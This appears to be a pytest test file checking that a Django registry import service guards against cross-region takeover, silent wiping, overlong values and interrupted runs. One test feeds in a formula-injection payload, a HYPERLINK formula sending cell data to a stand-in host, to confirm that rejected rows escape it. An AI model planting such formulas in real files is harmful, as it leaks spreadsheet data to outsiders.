"""An import cannot take over, wipe or corrupt what it should not: records held by another
region, columns the file does not have, values longer than their column, formulas in the
rejected rows, and a run killed half-way."""

import datetime as dt

import pytest
from django.core.cache import cache
from django.db import connection

from apps.accounts.models import AuditEntry
from apps.employers.models import Employer
from apps.imports.models import ImportJob
from apps.imports.services import create_import, rerun_import, run_import
from apps.imports.tests.conftest import csv_bytes, rejected_rows
from apps.imports.tests.test_employer_job_import import CODE_A, employer_row
from apps.imports.tests.test_people_import import person_row
from apps.people.models import Person, StatusChange, Transfer
from apps.people.transfers import accept, refuse
from apps.regions.models import ServiceStation

Status = ImportJob.Status
A1, A2, B1 = "341282001001", "341282001002", "341282002001"


@pytest.fixture
def clerks(staff):
    return {
        "a1": staff("community_staff", A1),
        "b1": staff("community_staff", B1),
        "street_a": staff("township_staff", "341282001"),
        "street_b": staff("township_staff", "341282002"),
        "county": staff("county_staff", "341282"),
    }


def run_as(user, kind, rows, headers=None):
    import io

    job = create_import(
        kind=kind, file=io.BytesIO(csv_bytes(rows, headers)), filename="x.csv", user=user
    )
    return run_import(job.pk)


# --- 1. no record taken across regions ---------------------------------------------------
def test_a_clerk_cannot_move_another_regions_person_into_their_community(run_file, clerks):
    run_file("people", csv_bytes([person_row(1, 居住社区代码=B1)]))  # held by B1
    before = Person.objects.get(id_number=person_row(1)["身份证号"])

    job = run_as(
        clerks["a1"], "people", [person_row(1, 居住社区代码=A1, 手机号="", 劳动状态="就业")]
    )

    assert (job.updated_count, job.rejected_count) == (0, 1)
    after = Person.objects.get(pk=before.pk)
    assert (after.community_id, after.phone, after.labour_status) == (
        B1,
        before.phone,
        before.labour_status,
    )
    [row] = rejected_rows(job)
    assert row["错误列"] == "居住社区代码" and "人员转移" in row["错误原因"]
    # The holding region is asked to hand the person over.
    transfer = Transfer.objects.get(person=after)
    assert (transfer.from_region_id, transfer.to_region_id, transfer.status) == (B1, A1, "pending")


def test_the_holding_region_accepts_a_transfer_and_the_person_moves_with_their_history(
    run_file, clerks
):
    run_file("people", csv_bytes([person_row(1, 居住社区代码=B1)]))
    run_as(clerks["a1"], "people", [person_row(1, 居住社区代码=A1, 居住地址="东城新居")])
    transfer = Transfer.objects.get()
    history = StatusChange.objects.filter(person=transfer.person).count()

    with pytest.raises(Exception, match="所在区域"):  # the asking side cannot accept it
        accept(user=clerks["a1"], transfer=transfer)
    accept(user=clerks["b1"], transfer=transfer)

    person = Person.objects.get(pk=transfer.person_id)
    assert (person.community_id, person.address, person.household_id) == (A1, "东城新居", None)
    assert StatusChange.objects.filter(person=person).count() == history  # history kept
    assert AuditEntry.objects.filter(action="transfer_accepted", object_id=str(person.pk)).exists()
    # Now the row imports for the clerk of the new community.
    again = run_as(clerks["a1"], "people", [person_row(1, 居住社区代码=A1, 劳动状态="就业")])
    assert (again.updated_count, again.rejected_count) == (1, 0)


def test_a_refused_transfer_needs_a_reason_and_moves_nobody(run_file, clerks):
    run_file("people", csv_bytes([person_row(1, 居住社区代码=B1)]))
    run_as(clerks["a1"], "people", [person_row(1, 居住社区代码=A1)])
    transfer = Transfer.objects.get()
    with pytest.raises(Exception, match="理由"):
        refuse(user=clerks["b1"], transfer=transfer, note=" ")
    refuse(user=clerks["b1"], transfer=transfer, note="本人仍在西城居住")
    transfer.refresh_from_db()
    assert transfer.status == "refused" and transfer.person.community_id == B1


def test_a_street_cannot_move_another_streets_employer_into_its_street(run_file, clerks):
    run_file("employers", csv_bytes([employer_row(所在区域代码="341282002")]))
    job = run_as(
        clerks["street_a"], "employers", [employer_row(所在区域代码="341282001", 联系电话="")]
    )
    assert (job.updated_count, job.rejected_count) == (0, 1)
    employer = Employer.objects.get(credit_code=CODE_A)
    assert (employer.region_id, employer.contact_phone) == ("341282002", "13812345678")
    assert "其他区域" in rejected_rows(job)[0]["错误原因"]


def test_a_station_of_another_street_cannot_be_renamed_by_import(run_file, clerks):
    row = {
        "站点编码": "S1",
        "站点名称": "西城服务站",
        "类型": "社区(村)服务站",
        "所在区域代码": B1,
        "经度": "115.352",
        "纬度": "33.255",
    }
    run_file("stations", csv_bytes([row]))
    job = run_as(clerks["street_a"], "stations", [{**row, "站点名称": "改名", "所在区域代码": A1}])
    assert job.rejected_count == 1
    assert ServiceStation.objects.get(code="S1").name == "西城服务站"


# --- 5. a column that is absent leaves the stored value alone ------------------------------
REQUIRED_PEOPLE = ["身份证号", "姓名", "居住社区代码", "劳动状态"]


def test_a_file_with_only_the_required_columns_wipes_nothing(run_file):
    full = person_row(1, 居住地址="东城路1号", 经度="115.3801", 纬度="33.2702")
    run_file("people", csv_bytes([full], [*full, "居住地址", "经度", "纬度"]))
    before = Person.objects.get(id_number=full["身份证号"])

    job = run_file("people", csv_bytes([full], REQUIRED_PEOPLE))

    after = Person.objects.get(pk=before.pk)
    assert (job.updated_count, job.unchanged_count) == (0, 1)
    for field in ("phone", "address", "household_id", "education", "lat", "lng", "h3"):
        assert getattr(after, field) == getattr(before, field), field
    assert after.status_since == before.status_since == dt.date(2026, 3, 1)


def test_the_status_date_moves_only_when_the_status_does(run_file):
    run_file("people", csv_bytes([person_row(1)]))
    person = Person.objects.get(id_number=person_row(1)["身份证号"])
    same = run_file("people", csv_bytes([person_row(1, 状态起始日期="2026-09-09")]))
    person.refresh_from_db()
    assert same.unchanged_count == 1 and person.status_since == dt.date(2026, 3, 1)
    moved = run_file("people", csv_bytes([person_row(1, 劳动状态="就业")], REQUIRED_PEOPLE))
    person.refresh_from_db()
    assert moved.updated_count == 1 and person.labour_status == "employed"
    assert person.status_since == dt.date.today()  # the column's default: the day of import


def test_an_empty_cell_in_a_present_column_clears_the_value(run_file):
    run_file("people", csv_bytes([person_row(1)]))
    run_file("people", csv_bytes([person_row(1, 手机号="")]))
    assert Person.objects.get(id_number=person_row(1)["身份证号"]).phone == ""


def test_an_employer_file_without_contact_columns_keeps_them(run_file):
    run_file("employers", csv_bytes([employer_row(地址="东城路8号")], [*employer_row(), "地址"]))
    headers = ["统一社会信用代码", "单位名称", "行业代码", "规模", "所在区域代码"]
    job = run_file("employers", csv_bytes([employer_row(单位名称="新名称")], headers))
    employer = Employer.objects.get(credit_code=CODE_A)
    assert job.updated_count == 1 and employer.name == "新名称"
    assert (employer.contact_phone, employer.address, employer.employees) == (
        "13812345678",
        "东城路8号",
        56,
    )


# --- 7. both engines refuse an overlong value in that row alone ----------------------------
def test_an_overlong_name_rejects_its_row_alone_naming_row_and_column(run_file):
    rows = [person_row(1), person_row(2, 姓名="张" * 10_000), person_row(3), person_row(4)]
    job = run_file("people", csv_bytes(rows))
    assert (job.status, job.created_count, job.rejected_count) == (Status.DONE_WITH_ERRORS, 3, 1)
    [row] = rejected_rows(job)
    assert (row["行号"], row["错误列"]) == ("3", "姓名")
    assert "不能超过64个字符" in row["错误原因"]


def test_too_large_numbers_and_long_related_values_are_rejected_too(run_file):
    rows = [
        person_row(1, 期望最低月薪="9" * 12),
        person_row(2, 户号="H" * 40),
        person_row(3, 认定说明="长" * 200),
        person_row(4, 技能证书="焊" * 200),
    ]
    job = run_file("people", csv_bytes(rows))
    assert job.rejected_count == 4 and job.created_count == 0, connection.vendor
    columns = [r["错误列"] for r in rejected_rows(job)]
    assert columns == ["期望最低月薪", "户号", "认定说明", "技能证书"]


# --- 4. a formula in a rejected cell comes back as text --------------------------------------
def test_rejected_rows_neutralise_formulas(run_file):
    payload = '=HYPERLINK("http://x/?"&A1,"点我")'
    job = run_file("people", csv_bytes([person_row(1, 姓名=payload, 居住社区代码="999")]))
    text = job.error_file.open("rb").read().decode("utf-8-sig")
    assert "'" + payload.replace('"', '""') in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text


# --- 9. an import killed mid-way is recognised and can run again --------------------------
def test_an_import_whose_process_died_is_shown_interrupted_and_runs_again(
    db, staff, django_capture_on_commit_callbacks
):
    import io

    clerk = staff("county_staff", "341282")
    job = create_import(
        kind="people",
        file=io.BytesIO(csv_bytes([person_row(i) for i in range(3)])),
        filename="x.csv",
        user=clerk,
    )

    def killed(done, total):
        raise KeyboardInterrupt  # what no handler of the run sees: the process ends here

    with pytest.raises(KeyboardInterrupt):
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("django.conf.settings.IMPORT_CHUNK_ROWS", 1)
            run_import(job.pk, on_progress=killed)
    job.refresh_from_db()
    assert job.status == Status.RUNNING and not Person.objects.exists()  # nothing written
    job.check_alive()
    assert job.status == Status.RUNNING  # its heartbeat is still fresh: not declared dead

    cache.delete(job.heartbeat_key)  # the process, and its heartbeat, are gone
    job.check_alive()
    assert job.status == Status.INTERRUPTED and job.interrupted

    with django_capture_on_commit_callbacks(execute=True):
        rerun_import(job, user=clerk)
    job.refresh_from_db()
    assert job.status == Status.DONE and Person.objects.count() == 3
    assert AuditEntry.objects.filter(action="import_rerun", object_id=str(job.pk)).exists()


def test_a_finished_import_cannot_be_run_again(run_file, staff):
    job = run_file("people", csv_bytes([person_row(1)]))
    with pytest.raises(Exception, match="已中断"):
        rerun_import(job, user=staff("county_staff", "341282"))


def test_a_clerk_posts_jobs_only_for_employers_their_region_holds(run_file, clerks):
    from apps.imports.tests.test_employer_job_import import job_row
    from apps.jobs.models import Job

    run_file("employers", csv_bytes([employer_row(所在区域代码="341282002")]))  # 西城
    rows = [job_row("J1", 工作地点代码=A1)]
    job = run_as(clerks["a1"], "jobs", rows, headers=[*job_row(), "工作地点代码"])
    assert (job.created_count, job.rejected_count) == (0, 1) and not Job.objects.exists()
    [row] = rejected_rows(job)
    assert row["错误列"] == "统一社会信用代码" and "不在您的管辖区域内" in row["错误原因"]
    ok = run_as(clerks["county"], "jobs", rows, headers=[*job_row(), "工作地点代码"])
    assert ok.created_count == 1  # the county holds both the employer and the work place
